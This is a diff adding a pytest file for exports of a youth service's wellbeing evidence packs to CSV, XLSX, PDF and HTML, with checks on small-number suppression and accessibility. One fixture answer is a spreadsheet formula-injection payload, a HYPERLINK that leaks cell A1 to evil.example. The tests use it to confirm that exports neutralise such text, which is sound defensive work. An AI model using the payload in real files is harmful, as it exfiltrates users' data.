@@ -1,0 +1,398 @@
+"""Evidence packs as CSV, XLSX and PDF: what a commissioner opening each file would see."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import datetime
+
+import openpyxl
+import pytest
+from bs4 import BeautifulSoup
+from pypdf import PdfReader
+
+from app.charts.wheel import draw_wheel
+from app.evidence import packs
+from app.evidence.suppression import SUPPRESSION_NOTE, Suppressed
+from app.evidence.tables import COUNT, NUMBER, P_VALUE, SHARE, Column, Pack, Section, Table
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for results")'
+WELSH_SERVICE = "Gwasanaeth Ieuenctid Dyffryn Conwy (Ymddiriedolaeth Gŵyl)"
+ARABIC_ANSWER = "الموظفون لطفاء جدا"
+NOW, BEFORE = "April to June 2026", "January to March 2026"
+
+
+@pytest.fixture(scope="module")
+def chart():
+    return draw_wheel(
+        [("safe", "Feeling safe"), ("friends", "Friends and family"), ("school", "Ysgol")],
+        {"safe": 3, "friends": 5, "school": 4},
+        {"safe": 7, "friends": 6, "school": 4},
+    )
+
+
+@pytest.fixture(scope="module")
+def pack(chart):
+    counts = (Column("Measure"), Column(NOW, COUNT), Column(BEFORE, COUNT))
+    return Pack(
+        title=f"Evidence: {WELSH_SERVICE}",
+        scope=WELSH_SERVICE,
+        period=NOW,
+        previous_period=BEFORE,
+        generated_at=datetime(2026, 7, 2, 9, 30),
+        method=(
+            ("About", WELSH_SERVICE),
+            ("Period", f"{NOW} (01 April 2026 to 30 June 2026)"),
+            ("Compared with", f"{BEFORE} (01 January 2026 to 31 March 2026)"),
+            ("Responses in the period", "1234"),
+            ("People in the period", "118"),
+            ("Languages", "Arabic, English, Welsh"),
+            ("Instrument", "Warwick-Edinburgh Mental Wellbeing Scale, version 1"),
+            ("Instrument", "Tell us what you think, version 1"),
+            ("Small numbers", "Threshold 10: figures about fewer than 10 people are hidden."),
+        ),
+        sections=(
+            Section(
+                key="responses",
+                title="Responses",
+                tables=(
+                    Table(
+                        key="responses",
+                        caption="Responses and people",
+                        columns=counts,
+                        rows=(("Responses", 1234, 310), ("People", 118, 64)),
+                    ),
+                    Table(
+                        key="completion",
+                        caption="Completion rate (complete responses as a share of all)",
+                        columns=(Column("Measure"), Column(NOW, SHARE), Column(BEFORE, SHARE)),
+                        rows=(("Completion rate", 0.873, 0.9),),
+                    ),
+                    Table(
+                        key="languages",
+                        caption="Languages used (responses)",
+                        columns=(Column("Language"), Column(NOW, COUNT), Column(BEFORE, COUNT)),
+                        rows=(
+                            ("Arabic (our own translation)", Suppressed(), Suppressed()),
+                            ("English (validated translation)", 1180, 280),
+                            ("Welsh (our own translation)", Suppressed(), 24),
+                            ("Total", 1234, 310),
+                        ),
+                        note="Hidden figures are fewer than 10, or hidden so others cannot be "
+                        "worked out.",
+                    ),
+                ),
+            ),
+            Section(
+                key="wemwbs",
+                title="Warwick-Edinburgh Mental Wellbeing Scale (WEMWBS): scores/change?",
+                tables=(
+                    Table(
+                        key="wemwbs-means",
+                        caption="Mean score (95% confidence interval)",
+                        columns=(
+                            Column("Measure"),
+                            Column("Mean", NUMBER),
+                            Column("People", COUNT),
+                            Column("p-value", P_VALUE),
+                        ),
+                        rows=(
+                            ("Latest score", 48.3333, 118, None),
+                            ("Change, first to latest", -1.25, 42, 0.0345),
+                            ("Change in the last month", 2.5, 40, 0.0004),
+                        ),
+                    ),
+                ),
+                charts=(chart,),
+                note="Scores are indicative, not a diagnosis.",
+            ),
+            Section(
+                key="service-feedback",
+                title="Tell us what you think",
+                tables=(
+                    Table(
+                        key="feel-welcome",
+                        caption="Do you feel welcome here?",
+                        columns=(Column("Answer"), Column("People", COUNT), Column("Share", SHARE)),
+                        rows=(
+                            ("Yes / Ydw / نعم", 96, 0.81),
+                            ("No", Suppressed(), Suppressed()),
+                            ("Not sure", 15, 0.13),
+                        ),
+                    ),
+                    Table(
+                        key="quotes",
+                        caption="Some words people used",
+                        columns=(Column("Words"), Column("Language")),
+                        rows=((HYPERLINK, "English"), (ARABIC_ANSWER, "Arabic")),
+                    ),
+                ),
+            ),
+        ),
+        suppression_note=SUPPRESSION_NOTE.format(threshold=10),
+    )
+
+
+# --- CSV -----------------------------------------------------------------------------------
+
+
+def csv_rows(body: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
+
+
+def test_csv_opens_in_excel_as_utf8_with_crlf_line_ends(pack):
+    body = packs.pack_csv(pack)
+    assert body.startswith(b"\xef\xbb\xbf")
+    text = body.decode("utf-8-sig")
+    assert WELSH_SERVICE in text and ARABIC_ANSWER in text
+    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
+    assert csv_rows(body)[0] == [f"Evidence: {WELSH_SERVICE}"]
+
+
+def test_csv_reads_top_to_bottom_cover_method_then_tables(pack):
+    rows = csv_rows(packs.pack_csv(pack))
+    assert ["Period", NOW] in rows and ["Compared with", BEFORE] in rows
+    assert ["Generated", "2 July 2026 at 09:30 UTC"] in rows
+    method = rows.index(["Method"])
+    assert rows[method + 1] == ["About", WELSH_SERVICE]
+    assert ["Small numbers", pack.suppression_note] in rows
+    start = rows.index(["Responses", "Languages used (responses)"])
+    assert rows[start + 1] == ["Language", NOW, BEFORE]
+    assert rows[start + 6] == [pack.sections[0].tables[2].note]
+    assert rows[start + 7] == []
+
+
+def test_csv_writes_plain_numbers_and_hidden_figures_as_words(pack):
+    rows = csv_rows(packs.pack_csv(pack))
+    assert ["Responses", "1234", "310"] in rows  # no thousands comma to confuse a parser
+    assert ["Completion rate", "87%", "90%"] in rows
+    assert ["Latest score", "48.3", "118", ""] in rows
+    assert ["Change, first to latest", "-1.2", "42", "0.035"] in rows
+    assert ["Change in the last month", "2.5", "40", "below 0.001"] in rows
+    assert ["Arabic (our own translation)", "fewer than 10", "fewer than 10"] in rows
+    assert ["Welsh (our own translation)", "fewer than 10", "24"] in rows
+    assert ["No", "fewer than 10", "fewer than 10"] in rows
+
+
+def test_csv_neutralises_text_a_spreadsheet_would_run_as_a_formula(pack):
+    rows = csv_rows(packs.pack_csv(pack))
+    assert ["'" + HYPERLINK, "English"] in rows
+    assert [ARABIC_ANSWER, "Arabic"] in rows
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+44 7700", "-2+3", "@SUM(A1)", "\tx", "\rx", "＝1"])
+def test_formula_like_text_gets_a_leading_apostrophe(text):
+    assert packs.neutralise_formula(text) == "'" + text
+    assert packs.csv_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", ["fewer than 10", "Gŵyl", "نعم", "1 = 1", "e-mail", ""])
+def test_ordinary_text_is_left_alone(text):
+    assert packs.neutralise_formula(text) == text
+
+
+def test_csv_negative_numbers_stay_numbers():
+    assert packs.csv_cell(-1.25, NUMBER) == "-1.2"
+    assert packs.csv_cell(-3, COUNT) == "-3"
+    assert packs.csv_cell(float("nan"), NUMBER) == ""
+
+
+# --- XLSX ----------------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def workbook(pack):
+    return openpyxl.load_workbook(io.BytesIO(packs.pack_xlsx(pack)))
+
+
+def find(sheet, value):
+    for row in sheet.iter_rows():
+        for cell in row:
+            if cell.value == value:
+                return cell
+    raise AssertionError(f"{value!r} is not on {sheet.title}")
+
+
+def right_of(sheet, cell, steps=1):
+    return sheet.cell(row=cell.row, column=cell.column + steps)
+
+
+def test_xlsx_has_the_method_sheet_first_then_a_sheet_per_section(workbook, pack):
+    assert workbook.sheetnames == [
+        "Method",
+        "Responses",
+        "Warwick-Edinburgh Mental Wellbe",  # 31 characters, without the ":" "/" "?"
+        "Tell us what you think",
+    ]
+    method = workbook["Method"]
+    assert method["A1"].value == pack.title and method["A1"].font.b
+    assert right_of(method, find(method, "Period")).value == NOW
+    assert right_of(method, find(method, "Compared with")).value == BEFORE
+    assert right_of(method, find(method, "Generated (UTC)")).value == datetime(2026, 7, 2, 9, 30)
+    assert right_of(method, find(method, "Responses in the period")).value == "1234"
+    assert right_of(method, find(method, pack.suppression_note), -1).value == "Small numbers"
+
+
+def test_xlsx_figures_are_numbers_with_number_formats(workbook):
+    sheet = workbook["Responses"]
+    responses = find(sheet, "Responses and people")
+    assert responses.font.b
+    header = sheet.cell(row=responses.row + 1, column=1)
+    assert header.value == "Measure" and header.font.b
+    count = sheet.cell(row=responses.row + 2, column=2)
+    assert count.value == 1234 and count.data_type == "n" and count.number_format == "#,##0"
+    share = right_of(sheet, find(sheet, "Completion rate"))
+    assert share.value == pytest.approx(0.873) and share.number_format == "0%"
+    scale = workbook["Warwick-Edinburgh Mental Wellbe"]
+    mean = right_of(scale, find(scale, "Change, first to latest"))
+    assert mean.value == pytest.approx(-1.25) and mean.number_format == "0.0"
+    p_value = right_of(scale, find(scale, "Change, first to latest"), 3)
+    assert p_value.value == pytest.approx(0.0345) and "0.000" in p_value.number_format
+
+
+def test_xlsx_hidden_figures_are_the_words_not_a_number(workbook):
+    sheet = workbook["Responses"]
+    welsh = find(sheet, "Welsh (our own translation)")
+    hidden, shown = right_of(sheet, welsh), right_of(sheet, welsh, 2)
+    assert hidden.value == "fewer than 10" and hidden.data_type == "s"
+    assert shown.value == 24
+    feedback = workbook["Tell us what you think"]
+    assert right_of(feedback, find(feedback, "No")).value == "fewer than 10"
+
+
+def test_xlsx_keeps_formula_like_text_as_text(workbook):
+    feedback = workbook["Tell us what you think"]
+    cell = find(feedback, HYPERLINK)
+    assert cell.data_type == "s"
+    assert find(feedback, ARABIC_ANSWER).data_type == "s"
+
+
+def test_xlsx_sets_widths_and_freezes_the_header_of_a_one_table_sheet(workbook):
+    scale = workbook["Warwick-Edinburgh Mental Wellbe"]
+    header = find(scale, "Measure")
+    assert scale.freeze_panes == f"A{header.row + 1}"
+    assert workbook["Responses"].freeze_panes is None  # three tables: nothing to hold
+    assert scale.column_dimensions["A"].width >= len("Change in the last month")
+
+
+def test_sheet_names_are_valid_and_unique_whatever_the_titles():
+    names = packs.sheet_names(
+        ["Method", "A/B: [test]?", "x" * 40, "x" * 40, "'Quoted'", "", "HISTORY", "method"],
+        taken=["Method"],
+    )
+    assert len(names) == len({name.casefold() for name in names} | {"method"}) - 1
+    for name in names:
+        assert 0 < len(name) <= 31
+        assert not set(name) & set("[]:*?/\\")
+        assert not name.startswith("'") and not name.endswith("'")
+        assert name.casefold() not in ("method", "history")
+    assert names[1] == "A B test"
+    assert names[2] == "x" * 31 and names[3] == "x" * 27 + " (2)"
+
+
+# --- PDF -----------------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def pdf(pack):
+    return PdfReader(io.BytesIO(packs.pack_pdf(pack)))
+
+
+def pdf_text(reader) -> str:
+    return " ".join(" ".join(page.extract_text().split()) for page in reader.pages)
+
+
+def structure(reader):
+    """Every structure element of the PDF's tag tree, depth first."""
+    found = []
+
+    def walk(node):
+        node = node.get_object()
+        if not hasattr(node, "get"):
+            return
+        found.append(node)
+        kids = node.get("/K")
+        if kids is None:
+            return
+        kids = kids.get_object()
+        for kid in kids if isinstance(kids, list) else [kids]:
+            if hasattr(kid, "get_object") and hasattr(kid.get_object(), "get"):
+                walk(kid)
+
+    walk(reader.trailer["/Root"]["/StructTreeRoot"])
+    return found
+
+
+def test_pdf_has_a_cover_a_method_page_and_each_section(pdf, pack):
+    assert len(pdf.pages) >= 4
+    cover = " ".join(pdf.pages[0].extract_text().split())
+    assert "Evidence pack" in cover and NOW in cover and BEFORE in cover
+    assert "2 July 2026 at 09:30 UTC" in cover
+    method = " ".join(pdf.pages[1].extract_text().split())
+    assert method.startswith("Method")
+    for fact in ("Arabic, English, Welsh", "Warwick-Edinburgh Mental Wellbeing Scale, version 1"):
+        assert fact in method
+    assert "Responses in the period 1234" in method
+    assert " ".join(pack.suppression_note.split()) in method
+    text = pdf_text(pdf)
+    for section in pack.sections:
+        for table in section.tables:
+            assert " ".join(table.caption.split()) in text
+    assert "fewer than 10" in text
+    assert "Welsh (our own translation) fewer than 10 24" in text
+
+
+def test_pdf_is_tagged_with_its_language_and_title(pdf, pack):
+    catalog = pdf.trailer["/Root"]
+    assert catalog["/MarkInfo"]["/Marked"].value is True
+    assert "/StructTreeRoot" in catalog
+    assert catalog["/Lang"] == "en-GB"
+    assert catalog["/ViewerPreferences"]["/DisplayDocTitle"]
+    assert pdf.metadata.title == pack.title
+    assert b'pdfuaid:part="1"' in pdf.xmp_metadata.stream.get_data()
+
+
+def test_pdf_tags_tables_with_headers_and_the_chart_with_its_alt_text(pdf, chart):
+    elements = structure(pdf)
+    kinds = [element.get("/S") for element in elements]
+    assert kinds.count("/Table") >= 7 and "/TH" in kinds and "/Caption" in kinds
+    assert "/H1" in kinds and "/H2" in kinds
+    figures = [element for element in elements if element.get("/S") == "/Figure"]
+    assert [figure.get("/Alt") for figure in figures] == [chart.alt_text]
+
+
+def test_pdf_html_uses_real_tables_and_shows_each_charts_finding(pack, chart):
+    page = BeautifulSoup(packs.pack_html(pack), "html.parser")
+    assert page.html["lang"] == "en-GB" and page.title.text == pack.title
+    assert page.find_all("h1") and len(page.find_all("h1")) == 1
+    for table in page.find_all("table"):
+        assert table.caption is not None and table.caption.text.strip()
+        assert all(th.get("scope") in ("col", "row") for th in table.find_all("th"))
+    figure = page.find("figure")
+    assert figure.img["alt"] == chart.alt_text
+    assert figure.figcaption.text.strip() == chart.alt_text
+    assert figure.img["src"].startswith("data:image/svg+xml;base64,")
+    assert HYPERLINK in page.text  # escaped as text, not markup
+
+
+def test_pdf_renders_outside_any_flask_app(pack):
+    from flask import has_app_context
+
+    assert not has_app_context()
+    assert packs.pack_pdf(pack).startswith(b"%PDF-1.7")
+
+
+def test_an_empty_pack_still_makes_every_file():
+    empty = Pack(
+        title="Evidence: Riverside Youth Club",
+        scope="Riverside Youth Club",
+        period=NOW,
+        previous_period=BEFORE,
+        generated_at=datetime(2026, 7, 2, 9, 30),
+        method=(),
+    )
+    assert csv_rows(packs.pack_csv(empty))[0] == ["Evidence: Riverside Youth Club"]
+    assert openpyxl.load_workbook(io.BytesIO(packs.pack_xlsx(empty))).sheetnames == ["Method"]
+    reader = PdfReader(io.BytesIO(packs.pack_pdf(empty)))
+    assert "Riverside Youth Club" in pdf_text(reader)
